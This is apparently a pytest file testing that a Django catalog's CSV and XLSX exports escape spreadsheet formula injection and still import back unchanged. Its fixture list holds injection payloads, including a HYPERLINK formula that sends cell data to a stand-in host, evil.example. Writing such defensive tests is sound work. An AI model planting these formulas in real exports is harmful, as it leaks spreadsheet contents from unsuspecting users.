"""Formula injection: no exported cell becomes a formula, numbers stay numbers, and the file imports back."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from pricing.services.imports import EXPORT_COLUMNS, price_import_preview, price_import_read
from tests.factories import SkuFactory

pytestmark = pytest.mark.django_db
D = Decimal
EXPORT = "admin:catalog_sku_export"

# What a product name or an article could hold to run in a spreadsheet (OWASP "CSV injection").
HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\t=1", "\r=1+1"]


@pytest.fixture
def hostile_skus():
    return [
        # An import trims the whitespace around a cell, so the articles start with the formula itself.
        SkuFactory(
            sku=100 + i, offer_id=f"{text.strip()}#{i}", name=text, price=D("1490.50"), mrpc=D("1000"), discount=D("10")
        )
        for i, text in enumerate(HOSTILE)
    ]


def export(admin_client, fmt: str) -> bytes:
    response = admin_client.get(reverse(EXPORT), {"format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if fmt == "csv" else response.content


def test_no_xlsx_cell_is_a_formula_and_the_text_stays_readable(admin_client, hostile_skus):
    sheet = load_workbook(io.BytesIO(export(admin_client, "xlsx"))).active

    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    names = {row[2].value for row in sheet.iter_rows(min_row=2)}
    # XML reads a CR as a line feed (openpyxl writes it raw): the same line break to a reader.
    assert names == {"'" + text.replace("\r", "\n") for text in HOSTILE}


def test_numbers_stay_numbers_in_the_xlsx(admin_client, hostile_skus):
    sheet = load_workbook(io.BytesIO(export(admin_client, "xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]

    for column in ("sku", "price", "mrpc", "discount", "active"):
        assert row[header.index(column)].data_type == "n", column
    assert row[header.index("price")].value == 1490.5


def test_no_csv_cell_starts_a_formula(admin_client, hostile_skus):
    rows = list(csv.reader(io.StringIO(export(admin_client, "csv").decode("utf-8-sig"))))

    assert rows[0] == list(EXPORT_COLUMNS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {row[2] for row in rows[1:]} == {"'" + text for text in HOSTILE}
    assert {row[3] for row in rows[1:]} == {"1490.50"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_file_imports_back_by_article_unchanged(admin_client, hostile_skus, fmt):
    content = export(admin_client, fmt)
    if fmt == "csv":
        # Without the sku column the article is the reference: its added quote must come off again.
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        out = io.StringIO()
        csv.writer(out).writerows([row[1:] for row in rows])
        content = out.getvalue().encode()

    lines = price_import_read(content=content, filename=f"back.{fmt}")
    preview = price_import_preview(lines=lines)

    expected = {str(sku.sku) for sku in hostile_skus} if fmt == "xlsx" else {sku.offer_id for sku in hostile_skus}
    assert {line.reference for line in lines} == expected
    assert preview.errors == [] and preview.changes == [] and preview.unchanged == len(HOSTILE)


def test_an_import_keeps_a_quote_it_did_not_add():
    content = b"offer_id,mrpc\n'quoted,100\n'=A1,100\n"

    assert [line.reference for line in price_import_read(content=content, filename="p.csv")] == ["'quoted", "=A1"]
